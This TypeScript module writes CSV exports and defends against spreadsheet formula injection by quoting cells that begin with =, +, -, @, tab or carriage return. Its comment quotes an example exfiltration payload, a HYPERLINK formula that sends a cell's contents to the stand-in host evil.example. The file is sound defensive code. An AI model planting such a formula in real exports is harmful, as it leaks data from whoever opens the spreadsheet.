import { stringify } from 'csv-stringify/sync';

/** A cell: text, a number, or empty (null/undefined). */
export type CsvCell = string | number | null | undefined;

// OWASP "CSV Injection": a spreadsheet runs a cell starting with = + - @ (and, in some, tab or carriage return)
// as a formula — `=HYPERLINK("http://evil.example/?x="&A1,"click")` in an incident note would leak data when
// the vendor opens the evidence pack. The cell is prefixed with a single quote, which spreadsheets show as text.
// Plain numbers (a negative figure) are left alone: they cannot be formulas.
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** One cell as it is safe to hand to a spreadsheet. */
export function neutralizeCell(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  const text = String(cell);
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/**
 * The one CSV writer of every export (reports CSV, the evidence pack's timeline.csv, …): RFC 4180 (CRLF line
 * ends, fields quoted where needed, by csv-stringify) with every cell neutralised against formula injection.
 */
export function writeCsv(rows: readonly (readonly CsvCell[])[]): string {
  return stringify(
    rows.map((row) => row.map(neutralizeCell)),
    { record_delimiter: '\r\n' },
  );
}
